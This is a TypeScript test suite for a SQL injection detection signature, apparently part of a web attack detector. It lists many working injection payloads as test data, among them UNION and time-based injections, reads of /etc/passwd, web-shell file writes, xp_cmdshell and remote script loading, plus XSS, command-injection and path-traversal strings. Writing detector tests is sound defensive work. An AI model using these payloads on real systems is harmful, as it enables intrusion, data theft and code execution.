import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readingOf } from '../../../src/attacks/readings/reading.ts';
import type { Finding } from '../../../src/attacks/signature.ts';
import { sqlInjection } from '../../../src/attacks/signatures/sql-injection.ts';
import { findSqlInjection } from '../../../src/attacks/sql/find-sql-injection.ts';

/** What the signature says about the value of a parameter. */
function findingIn(text: string): Finding | null {
  const reading = readingOf({ location: 'query.q', kind: 'query', part: 'value', text }, text, []);
  return sqlInjection.couldMatch(reading) ? sqlInjection.match(reading) : null;
}

function confidenceIn(text: string): number {
  return findingIn(text)?.confidence ?? 0;
}

describe('a value is read in every context an application may have put it in', () => {
  const contexts = ['1', "x'", 'x"', 'x`', "x')", 'x"))', "x%'", '-1)'];
  const tails = [
    ' or 1=1',
    ' and 7=8',
    ' union select 1,2,3',
    '; drop table users',
    ' and sleep(5)',
    ' or (select 1)=1',
    ' having 1=1',
  ];
  const payloads = contexts.flatMap((context) => tails.map((tail) => `${context}${tail}-- -`));
  test.each(payloads)('%s', (payload) => expect(confidenceIn(payload)).toBeGreaterThanOrEqual(0.75));
});

describe('the same condition in other spellings', () => {
  test.each([
    "'or'1'='1",
    "'or(1)=(1)#",
    "'/**/or/**/1/**/like/**/1--",
    "' || 1=1#",
    "' && 'a'<>'b'#",
    "' xor 1=0#",
    "' or not 1=2--",
    "' or 2 between 1 and 3--",
    "' or 1 in (1,2)--",
    "' or 'a' regexp '^a'--",
    "' or 1 is not null--",
    "' or true--",
    "' or !0#",
    "1' or 1.e(1) or '1'='1",
    '1+or+1=1--+',
    "1'\u00a0or\u000b1=1#",
    "' or x=x--",
    "' or name like '%",
    '\u2019 or \u20181\u2019=\u20191',
  ])('%s', (payload) => expect(confidenceIn(payload)).toBeGreaterThanOrEqual(0.6));
});

describe('queries joined in disguise', () => {
  test.each([
    '1 uNiOn aLl sElEcT null,null',
    '1/*!50000union*//*!50000select*/1,2',
    '1 union(select 1)',
    '1 union distinct select @@version',
    '1 UNI/**/ON SEL/**/ECT 1,2',
    '1 UNIunionON SELselectECT 1,2',
    '1\nunion\tselect 1',
    '-1e0union select 1,2',
    '1 except select password from users',
  ])('%s', (payload) => expect(findingIn(payload)?.pattern).toMatch(/SELECT/));
});

describe('what is done is named', () => {
  test.each([
    ["1' and sleep(5)#", 'time delay'],
    ['1 asc,if(1=1,sleep(3),0)', 'time delay'],
    ["1; waitfor delay '0:0:5'--", 'WAITFOR statement'],
    ["' and updatexml(1,concat(0x7e,user()),1)#", 'error-based extraction'],
    ["' union select load_file('/etc/passwd')#", 'UNION SELECT'],
    ["1' into outfile '/var/www/x.php'#", 'write to a file'],
    ["'; exec master..xp_cmdshell 'dir'--", 'system procedure'],
    ["1'; create alias if not exists x as concat('a', 'b')--", 'CREATE statement'],
    ["1' procedure analyse(1,1)-- -", 'PROCEDURE ANALYSE'],
    ["create function x returns integer soname 'x.dll'", 'CREATE statement'],
    ["create or replace function f(text) returns int as '/tmp/x.so', 'f'", 'CREATE statement'],
    ["set global general_log_file = '/srv/x.php'", 'SET statement'],
    ["runscript from 'https://a.example/x.sql'", 'RUNSCRIPT statement'],
    ["select * from url('https://a.example/', 'csv')", 'SELECT statement'],
    ["select * from read_text('/etc/passwd')", 'SELECT statement'],
    ["1' order by 3-- -", 'ORDER BY'],
    ["admin'-- -", 'comment cuts off the query'],
    ["' and (select table_name from information_schema.tables)='a", 'database catalog'],
  ])('%s', (payload, pattern) => expect(findingIn(payload)?.pattern).toBe(pattern));
});

test('a complete attack is more certain than a fragment of one', () => {
  expect(confidenceIn("1' or '1'='1'-- -")).toBeGreaterThanOrEqual(0.9);
  expect(confidenceIn("'-'")).toBeGreaterThanOrEqual(0.5);
  expect(confidenceIn("'-'")).toBeLessThan(0.7);
  expect(confidenceIn('order by 8')).toBeLessThan(0.7);
  expect(confidenceIn('SELECT name FROM users WHERE id = 5')).toBeLessThan(0.7);
});

test('a finding begins where the value ends', () => {
  expect(findingIn("O'Brien")).toBeNull();
  expect(findingIn("abc' or '1'='1")?.at).toBe(3);
  expect(findingIn('abc union select 1,2')?.at).toBe(3);
});

test('a path is read from its last segment', () => {
  const text = '/api/items/1 or 1=1';
  const reading = readingOf({ location: 'path', kind: 'path', part: 'whole', text }, text, []);
  expect(sqlInjection.match(reading)?.confidence).toBeGreaterThanOrEqual(0.8);
});

describe('harmless text', () => {
  test.each([
    "select * from read_csv('data.csv')",
    'select url from remote where file = glob',
    "create function f(x int) returns int as 'select 1' language sql",
    'set global max_connections = 100',
    'run the script from the folder; set global state',
    "Tom & Jerry's",
    "where name like '%abc%'",
    "rock 'n' roll -- great",
    "the dogs' -- all of them -- barked",
    "kids' #1",
    "she can't #hashtag",
    "'Twas the night before",
    "bouton d'or = 5",
    "it's like 'that'",
    "he's between 5 and 6",
    'name = "x" and age > 3',
    "startswith(name,'a') or contains(name,'b')",
    'project = ABC AND status = "In Progress" ORDER BY created DESC',
    'from:bob subject:"hi" or has:attachment',
    'W/"abc"',
    '"Chromium";v="110", " Not A;Brand";v="24"',
    'text/html;q=0.9,*/*;q=0.8',
    '{"a":"b","c":"it\'s"}',
    '<a href="#">x</a>',
    'color: #fff; /* comment */',
    "const a = b || 'c';",
    '=IF(A1>3,"a","b")',
    '50 < 60 && 70 > 60',
    "f'(x)=0",
    '3\'4" or 3\'5"',
    '12" x 10" or 8" x 6"',
    'Order by date desc',
    'Delete from cart',
    'Insert into slot A',
    'execute order 66',
    'name asc, created desc',
    '"order by added_at" ignored',
    'let us drop table tennis; select another sport',
    'How do I use UNION SELECT in MySQL?',
    '-- \n# Heading\n\n| a | b |\n|---|---|\n',
    'SGVsbG8gV29ybGQ=',
  ])('%s', (text) => expect(findingIn(text)).toBeNull());
});

describe('attacks on other languages', () => {
  test.each([
    "'><script>alert(1)</script>",
    "'-alert(1)-'",
    "';alert(1)//",
    '" onmouseover="alert(1)',
    "'; ls -la /",
    "'|id|'",
    "' && this.password.match(/.*/)//",
    '{"$ne": null}',
    '*)(uid=*))(|(uid=*',
    '../../etc/passwd',
    "exec('whoami');",
  ])('%s', (text) => expect(findingIn(text)).toBeNull());
});

test('every text is answered, and none in a way that breaks the contract', () => {
  const pieces = fc.constantFrom(
    ...["'", '"', '`', '(', ')', ';', '--', '#', '/*', '*/', '/*!', '\\', '\0', '\ud800', '@', '$a$', "q'[", '{', '.'],
    ...[
      ' or ',
      ' and ',
      '1',
      '=',
      ' union ',
      'select ',
      ',',
      'sleep(',
      ' case when ',
      ' not ',
      '||',
      '+',
      '-',
      '1e',
      ' ',
    ],
    ...['exec ', 'drop table ', ' order by ', 'é', '\n', 'x', 'if(', ' between ', ' in (', 'declare @', '[a]', '::'],
  );
  const texts = fc.oneof(
    fc.array(pieces, { maxLength: 60 }).map((parts) => parts.join('')),
    fc.string({ unit: 'binary' }),
  );
  fc.assert(
    fc.property(texts, (text) => {
      const finding = findSqlInjection(readingOf({ location: 'body', kind: 'text', part: 'whole', text }, text, []));
      if (finding === null) return;
      expect(finding.confidence).toBeGreaterThanOrEqual(0.5);
      expect(finding.confidence).toBeLessThanOrEqual(1);
      expect(finding.at).toBeGreaterThanOrEqual(0);
      expect(finding.at).toBeLessThanOrEqual(text.length);
      expect(finding.pattern).not.toBe('');
    }),
    { numRuns: 2000 },
  );
});

test('what cannot match is not looked at', () => {
  fc.assert(
    fc.property(fc.string(), (text) => {
      const reading = readingOf({ location: 'query.q', kind: 'query', part: 'value', text }, text, []);
      if (!sqlInjection.couldMatch(reading)) expect(findSqlInjection(reading)).toBeNull();
    }),
  );
  expect(findingIn('3f2504e0-4f89-11d3-9a0c-0305e82c3301')).toBeNull();
});

test('an attack is found behind megabytes of other text', () => {
  expect(confidenceIn(`${'a'.repeat(2_000_000)}' or '1'='1`)).toBeGreaterThanOrEqual(0.9);
  expect(confidenceIn(`1${' '.repeat(200_000)}or 1=1`)).toBeGreaterThanOrEqual(0.8);
});

test('what can tell nothing however it ends takes no tokens from what stands behind it', () => {
  const filler = '||1]]]]]]]]]]]]]]]]'.repeat(50);
  expect(confidenceIn(`1${filler} or 1=1-- -`)).toBeGreaterThanOrEqual(0.5);
});

test.each(['|||||||| ', 'a &&, ', 'and ) '])('neither does an operator without an operand: %s', (filler) => {
  expect(confidenceIn(`1 ${filler.repeat(2_000)} or 1=1-- -`)).toBeGreaterThanOrEqual(0.5);
});
